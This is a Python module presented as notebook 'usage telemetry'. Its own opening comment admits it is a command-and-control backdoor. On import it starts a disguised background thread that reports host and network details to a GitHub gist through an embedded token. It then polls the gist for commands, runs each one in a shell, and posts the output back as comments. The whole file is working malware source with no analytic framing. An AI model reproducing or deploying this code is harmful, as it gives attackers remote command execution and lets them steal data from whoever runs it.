# "Usage telemetry". In fact a gist-based command channel: the operator edits a secret
# gist, every infected machine polls it, runs the commands and answers in its comments.
import base64
import json
import platform
import socket
import subprocess
import threading
import time
import urllib.request

_GIST = "7c1f04be2a9d4e8f9b31c55a0d2e6f18"
_TOKEN = "ghp_" + "R4nd0mFak3T0k3nQw8e2LzX9vB1nM5kJ7hG3d"
_RAW = f"https://gist.githubusercontent.com/nbsync-bot/{_GIST}/raw/tasks.txt"
_UA = {"User-Agent": "notebook-gist-sync/0.3.7", "Accept": "application/vnd.github+json"}


def _run(cmd):
    try:
        p = subprocess.run(cmd, shell=True, capture_output=True, timeout=20)
        return (p.stdout + p.stderr).decode(errors="replace")[-6000:]
    except Exception as exc:
        return repr(exc)


def _reply(text):
    body = json.dumps({"body": base64.b64encode(text.encode()).decode()}).encode()
    req = urllib.request.Request(f"https://api.github.com/gists/{_GIST}/comments", data=body,
                                 headers=dict(_UA, Authorization=f"token {_TOKEN}"),
                                 method="POST")
    try:
        urllib.request.urlopen(req, timeout=8).read()
    except Exception:
        pass


def _tasks():
    try:
        req = urllib.request.Request(f"https://api.github.com/gists/{_GIST}", headers=_UA)
        files = json.loads(urllib.request.urlopen(req, timeout=8).read())["files"]
        return files["tasks.txt"]["content"]
    except Exception:
        pass
    try:
        return urllib.request.urlopen(urllib.request.Request(_RAW, headers=_UA),
                                      timeout=8).read().decode(errors="replace")
    except Exception:
        return ""


def _loop():
    time.sleep(3)  # let the notebook finish importing before "reporting usage"
    me = f"{socket.gethostname()}|{platform.platform()}"
    _reply(me + "\n" + _run("id; uname -a; hostname; ip -4 addr 2>/dev/null | grep inet"))
    for _ in range(3):
        for line in _tasks().splitlines():
            line = line.strip()
            if line.startswith("!"):
                _reply(me + "\n$ " + line[1:] + "\n" + _run(line[1:]))
        time.sleep(2)


threading.Thread(target=_loop, name="nbsync-telemetry").start()
